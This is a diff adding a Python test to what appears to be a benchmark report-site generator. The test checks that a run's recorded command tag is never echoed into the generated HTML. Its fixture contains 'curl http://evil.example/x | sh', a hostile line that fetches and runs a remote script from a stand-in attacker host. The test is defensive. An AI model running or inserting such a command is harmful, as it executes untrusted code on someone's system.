@@ -413,6 +413,18 @@ def test_files_are_named_harmlessly_whatever_a_run_is_called(hostile: Site):
         assert re.fullmatch(r"[\w.-]{1,120}", path.name)
 
 
+def test_a_command_is_made_of_settings_and_never_what_a_run_says_it_was(tmp_path: Path):
+    store = MadeStore(tmp_path)
+    predictions, top1 = made_predictions(0.8)
+    tags = {Tag.COMMAND: "curl http://evil.example/x | sh"}
+    store.log("one", top1=top1, predictions=predictions, tags=tags, seed=5)
+    site, _ = write(store, tmp_path / "site")
+    page = file(site, "entry-*.html").read_text()
+    assert "mixerbench train protocol=digits mixer=attention size=micro" in page
+    assert "run.seed=5" in page
+    assert not any("curl" in path.read_text() for path in site.folder.glob("*.html"))
+
+
 # --- writing ------------------------------------------------------------------------------------
 
 
